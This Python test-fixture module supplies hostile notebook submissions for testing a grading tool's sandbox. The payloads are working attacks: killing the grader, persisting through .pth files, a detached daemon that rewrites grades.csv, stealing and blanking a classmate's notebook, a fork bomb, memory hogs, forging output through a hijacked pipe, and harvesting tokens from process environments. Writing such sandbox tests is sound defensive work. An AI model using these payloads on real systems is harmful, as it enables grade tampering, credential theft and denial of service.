"""Hostile submissions for the grader's sandbox test (tests/test_student_kit.py) and for the
tests of the grader's own code (tests/test_grade_hardened.py).

Each notebook attacks what a student's code could reach if it ran in the teacher's
environment: the answer keys, a classmate's files, the teacher's venv, the grader's
process and its ``grades.csv``, the machine's processes, memory and network. Every attack
aims only at grading runs whose command line holds ``marker`` (a folder name of the test's
own): the suite must never touch another run on a shared machine, even on a grader without
a sandbox. The same notebooks, graded by the grader before the sandbox, did each harm
(the commit that added this file says what each did).
"""

from __future__ import annotations

import textwrap

#: Finds the grading runs of this suite: (pid, argv, cwd) of every process whose command line
#: has ``grade`` and whose command line or folder has the marker. Prepended to the attacks that
#: need the grader.
FIND = '''\
import os, pathlib
MARK = {marker!r}
def graders():
    for p in pathlib.Path("/proc").iterdir():
        if not p.name.isdigit():
            continue
        try:
            argv = [a.decode(errors="replace") for a in (p / "cmdline").read_bytes().split(b"\\0")]
            cwd = os.readlink(p / "cwd")
        except OSError:
            continue
        if "grade" in argv and (MARK in cwd or any(MARK in a for a in argv)):
            yield int(p.name), argv, cwd
'''

KEYS = '''\
import importlib, inspect, tmath.answer_keys
from tmath.exercises import _KEYS, labels, my_answer
for label in labels():
    my_answer(label, _KEYS[label].compute())
print(inspect.getsource(importlib.import_module("tmath.answer_keys.tour")))
'''

CLASSMATE = '''\
import json, re
stolen = {{}}
for pid, argv, cwd in graders():
    submitted = pathlib.Path(cwd, argv[argv.index("grade") + 1])
    nb = json.loads((submitted / {victim!r} / "tour.ipynb").read_text(encoding="utf-8"))
    for cell in nb["cells"]:
        stolen.update(re.findall(r'my_answer\\("([^"]+)", (.+)\\)', "".join(cell["source"])))
    (submitted / {blanked!r} / "tour.ipynb").write_text("{{}}", encoding="utf-8")
print("stolen", sorted(stolen))
'''

PTH = '''\
import site, sys
line = "import os; os.environ.setdefault('TMATH_HOSTILE_PTH', '1')\\n"
targets = set(site.getsitepackages())
for pid, argv, cwd in graders():  # the grader's venv, from its python's path
    targets |= {{str(p) for p in pathlib.Path(argv[0]).parent.parent.glob("lib/python*/site-packages")}}
written = []
for t in sorted(targets):
    try:
        pathlib.Path(t, "zz_tmath_hostile_{marker}.pth").write_text(line)
        written.append(t)
    except OSError:
        pass
for escape in ("/tmp", os.path.expanduser("~"), os.getcwd() + "/.."):
    try:
        pathlib.Path(escape, "tmath-hostile-escape-{marker}").write_text("out")
        written.append(escape)
    except OSError:
        pass
print("written", written)
'''

#: The daemon: outlives the kernel (double fork, new session), waits for the grader to exit,
#: then rewrites a row of its grades.csv.
DAEMON_CODE = '''\
import time
out, deadline = None, time.time() + 900
while time.time() < deadline:
    found = list(graders())
    for pid, argv, cwd in found:
        out = pathlib.Path(cwd, argv[argv.index("--out") + 1])
    if out is not None and not found and out.exists():
        time.sleep(3)
        text = out.read_text(encoding="utf-8-sig")
        out.write_text(text.replace("grace,已评分,7", "grace,已评分,0"), encoding="utf-8-sig")
        break
    time.sleep(0.2)
'''

DAEMON = '''\
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(90)", "tmath-hostile-sleep-{marker}"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-c", {code!r}, "tmath-hostile-daemon-{marker}"])
    os._exit(0)
os.wait()
'''

KILL_GRADER = '''\
import signal
for pid, argv, cwd in graders():
    os.kill(pid, signal.SIGKILL)
'''

FORK_BOMB = '''\
import os
while True:
    os.fork()
'''

#: Ten gigabytes, asked for and never touched: without a limit it is granted (and a program
#: that wrote to it would take the machine's memory); with one, MemoryError.
BIG = '''\
import numpy
big = numpy.empty(10 * 2**30, dtype=numpy.uint8)
print("granted", big.nbytes)
'''

#: An infinite loop, in the kernel and in three children, each in a session of its own (which
#: takes it out of the sandbox's autogroup: only a cgroup keeps them to one CPU share). Three,
#: not thirty: the test suite pays for every CPU second they get.
LOOP = '''\
import os, sys
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", "while True: pass", "tmath-hostile-loop-{marker}"])
while True:
    pass
'''

#: A cell that never ends, and ignores the interrupt the grader sends at the cell's time limit
#: (``--cell-timeout``): the cells after it wait behind it until the notebook's budget is spent.
STUBBORN = '''\
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(0.1)
'''

#: A cell that never ends but can be interrupted: at the cell's time limit the grader stops it,
#: and the cells after it (the later answers) run.
SPIN = '''\
while True:
    pass
'''

NETWORK = '''\
import socket
with socket.create_connection(("127.0.0.1", {port}), timeout=5) as s:
    s.sendall(b"{marker}")
print("connected")
'''


def cases(marker: str, port: int, victim: str = "grace",
          blanked: str = "heidi") -> dict[str, tuple[str, bool]]:
    """{student: (code, in the answer cell?)}: the suite's hostile notebooks' attacks.

    ``in the answer cell``: the code goes at the end of the last answer cell (:func:`place`:
    the answers it records are the last of each label, so they are the ones read); else it is
    a cell of its own before the first answer cell."""
    find = FIND.format(marker=marker)
    return {
        "h1-keys": (KEYS, True),
        "h2-classmate": (find + CLASSMATE.format(victim=victim, blanked=blanked), False),
        "h3-pth": (find + PTH.format(marker=marker), False),
        "h4-daemon": (find + DAEMON.format(marker=marker, code=find + DAEMON_CODE), False),
        "h5-kill-grader": (find + KILL_GRADER, False),
        "h6-fork-bomb": (FORK_BOMB, False),
        "h7-10gb": (BIG, False),
        "h8-loop": (LOOP.format(marker=marker), False),
        "h9-network": (NETWORK.format(port=port, marker=marker), False),
        # the grader's own code (issue 39)
        "h10-huge": (HUGE, True),
        "h11-pidfd": (PIDFD, False),
        "h12-environ": (ENVIRON, False),
        "h13-hog": (HOG, False),
    }


#: The classmate attacker's answers: the victim's, when it could read them.
STOLEN = {label: f'eval(stolen.get("{label}", "None"))' for label in (
    "ex-tour-1", "ex-tour-1/share", "ex-tour-2", "ex-tour-3/extra", "ex-tour-3/share", "ex-tour-4",
    "ex-tour-5")}


def dedent(code: str) -> str:
    return textwrap.dedent(code).strip() + "\n"


def place(nb, code: str, in_answer_cell: bool):
    """Put ``code`` into the student notebook ``nb`` as :func:`cases` says."""
    import nbformat

    answers = [i for i, c in enumerate(nb.cells) if "answer" in c.metadata.get("tags", [])]
    if in_answer_cell:
        cell = nb.cells[answers[-1]]
        cell.source = cell.source.rstrip("\n") + "\n" + code
    else:
        nb.cells.insert(answers[0], nbformat.v4.new_code_cell(code))
    return nb


# --- the grader's own code (issue 39): each of these broke the grader around the sandbox ---------

#: Takes the worker's output pipe from another process of the sandbox (``pidfd_getfd``: the
#: kernel ran as the worker's user), writes a forged "executed" notebook on it (status ok, a
#: text this code never prints), and kills the worker so that only the forgery reaches the
#: grader. The notebook's own ZeroDivisionError (a cell before) then vanished from its row.
PIDFD = '''\
import ctypes, fcntl, json, os, pathlib, signal
libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438  # x86-64 and arm64 alike
forged = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
    {"cell_type": "code", "id": "forged", "metadata": {}, "execution_count": 1, "source": "print()",
     "outputs": [{"output_type": "stream", "name": "stdout", "text": "FORGED-BY-THE-KERNEL\\n"}]}]}
payload = (json.dumps({"status": "ok"}) + "\\n" + json.dumps(forged)).encode()
took, worker = [], None
for p in pathlib.Path("/proc").iterdir():
    if not p.name.isdigit() or int(p.name) == os.getpid():
        continue
    try:
        if b"worker.py" in (p / "cmdline").read_bytes():
            worker = int(p.name)
    except OSError:
        pass
    pidfd = libc.syscall(PIDFD_OPEN, int(p.name), 0)
    if pidfd < 0:
        continue
    for fd in range(64):
        got = libc.syscall(PIDFD_GETFD, pidfd, fd, 0)
        if got < 0:
            continue
        try:
            is_pipe = os.readlink(f"/proc/self/fd/{got}").startswith("pipe:")
            writable = fcntl.fcntl(got, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
        except OSError:
            is_pipe = writable = False
        if is_pipe and writable:
            took.append((int(p.name), fd, got))
print("took", [(pid, fd) for pid, fd, _ in took], "errno", ctypes.get_errno())
# the grader reads what the worker's output pipe carries: write on every pipe taken (the worker's
# copy, or the sandbox's pid 1's: bwrap's reaper held one too), then stop the worker
for pid, fd, got in took:
    os.write(got, payload)
    os.close(got)
if took and worker is not None:
    os.kill(worker, signal.SIGKILL)
'''

#: Reads the environment of every process it can see: the sandbox's pid 1 (bwrap, started by the
#: grader) held the teacher's whole environment, a token included, when graded as a normal user.
ENVIRON = '''\
import os, pathlib
seen = {}
for p in pathlib.Path("/proc").iterdir():
    if p.name.isdigit() or p.name == "self":
        try:
            seen[p.name] = (p / "environ").read_bytes().decode(errors="replace").split("\\0")
        except OSError as e:
            seen[p.name] = type(e).__name__
seen["os.environ"] = sorted(os.environ.items())
print(seen)
'''

#: An answer cell that records a number no float holds (a record written by hand: ``my_answer``
#: refuses it): the grader died in the feedback (OverflowError), after every notebook had run,
#: with no grades.csv for anyone.
HUGE = '''\
from IPython.display import display
from tmath.exercises import ANSWER_MIME
for label, value in (("ex-tour-2", 10**400), ("ex-tour-4", -10**400), ("ex-tour-5", 7 * 10**4000)):
    display({"text/plain": label, ANSWER_MIME: {"label": label, "value": value}}, raw=True)
'''

#: Four processes that each touch 600 MiB and hold it: 2.4 GiB for one notebook, each process
#: under its own 4 GiB address-space limit (a 10 GiB notebook took four of them). With a limit
#: on the sandbox as a whole (``--memory``) they cannot all hold it.
HOG = '''\
import os, time
MiB = 2**20
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        block = bytearray(600 * MiB)
        for i in range(0, len(block), 4096):
            block[i] = 1
        time.sleep(8)
        os._exit(0)
    children.append(pid)
block = bytearray(600 * MiB)
for i in range(0, len(block), 4096):
    block[i] = 1
survived = sum(os.waitpid(pid, 0)[1] == 0 for pid in children)
print("held", (survived + 1) * 600, "MiB")
'''
